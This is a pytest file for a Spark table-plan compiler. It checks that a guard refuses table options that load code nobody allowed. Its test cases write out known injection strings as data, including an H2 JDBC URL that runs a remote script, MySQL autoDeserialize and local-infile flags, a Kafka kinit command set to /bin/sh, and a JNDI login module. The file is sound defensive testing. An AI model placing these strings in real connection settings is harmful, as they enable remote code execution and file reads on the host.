"""Code loaded by table options, before anything of a run is started."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import pytest

from compiled_plan.environment import TableEnvironment
from compiled_plan.plans.errors import UnsupportedError
from compiled_plan.plans.execution.spark.packages import ALLOWED, PROVIDERS, check_loaded_code
from compiled_plan.plans.plan import CompiledPlan

pytestmark = pytest.mark.attack


def plan_of(options: dict[str, str]) -> CompiledPlan:
    listed = ", ".join(f"'{key}' = '{value}'" for key, value in options.items())
    script = f"""CREATE TABLE s (a INT) WITH ({listed});
    CREATE TABLE p (a INT) WITH ('connector' = 'print'); INSERT INTO p SELECT a FROM s;"""
    return CompiledPlan.from_json(TableEnvironment().compile_script(script).to_json())


def session(allowed: str = "") -> Any:
    return SimpleNamespace(
        conf=SimpleNamespace(get=lambda name, default: allowed if name in (ALLOWED, PROVIDERS) else default)
    )


def jdbc(url: str) -> dict[str, str]:
    return {"connector": "jdbc", "url": url, "table-name": "t"}


def kafka(name: str, value: str) -> dict[str, str]:
    servers = {"connector": "kafka", "topic": "t", "properties.bootstrap.servers": "h:1", "format": "json"}
    return {**servers, "scan.startup.mode": "earliest-offset", f"properties.{name}": value}


@pytest.mark.parametrize(
    ("options", "allowing"),
    [
        (jdbc("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://h/x''"), "init"),
        (jdbc("jdbc:h2:zip:~/a!/b;INIT=x"), "init"),
        (jdbc("jdbc:h2:mem:x;LOCK_TIMEOUT=FILE_WRITE(1)"), "lock_timeout"),
        (jdbc("jdbc:postgresql://h/d?socketFactory=a.B"), "a.B"),
        (jdbc("jdbc:mysql://h/d?autoDeserialize=true"), "autoDeserialize"),
        (jdbc("jdbc:mysql://h/d?allowLoadLocalInfile=true"), "allowLoadLocalInfile"),
        (kafka("metric.reporters", "a.B"), "a.B"),
        (kafka("sasl.kerberos.kinit.cmd", "/bin/sh"), "/bin/sh"),
        (kafka("sasl.jaas.config", 'com.sun.security.auth.module.JndiLoginModule required a="b";'),
         "com.sun.security.auth.module.JndiLoginModule"),
        ({"connector": "spark", "provider": "jdbc", "url": "jdbc:mysql://h/d", "queryInterceptors": "a.B"}, "a.B"),
        ({"connector": "spark", "provider": "a.B"}, "a.B"),
        ({"connector": "spark", "provider": "jdbc", "url": "jdbc:h2:mem:x", "query": "SELECT f(1)"}, "query"),
        ({"connector": "spark", "provider": "jdbc", "url": "jdbc:derby:d", "dbtable": "t",
          "sessionInitStatement": "CREATE FUNCTION f() ..."}, "sessionInitStatement"),
    ],
)  # fmt: skip
def test_a_plan_has_no_code_loaded_that_nobody_allowed(options: dict[str, str], allowing: str) -> None:
    plan, setting = plan_of(options), PROVIDERS if "." in options.get("provider", "") else ALLOWED
    with pytest.raises(UnsupportedError, match="a plan may not choose which code runs") as error:
        check_loaded_code(plan, session())
    assert "WITH" in error.value.where and f"--conf {setting}=" in error.value.remedy
    check_loaded_code(plan, session(f"x.Y, {allowing}"))


@pytest.mark.parametrize(
    "options",
    [
        jdbc("jdbc:unknown://h/d"),
        jdbc("jdbc:postgresql://h/d?loggerFile=/tmp/x&anything=else"),
        jdbc("jdbc:sqlite:/any/where.db"),
        {"connector": "spark", "provider": "jdbc", "url": "jdbc:postgresql://h/d", "query": "SELECT f(1)"},
        kafka("unknown.setting", "x"),
        kafka("ssl.keystore.location", "/etc/k"),
        kafka("sasl.jaas.config", "org.apache.kafka.common.security.scram.ScramLoginModule required a=b;"),
    ],
)
def test_a_plan_may_use_files_and_any_database(options: dict[str, str]) -> None:
    check_loaded_code(plan_of(options), session())
    assert options
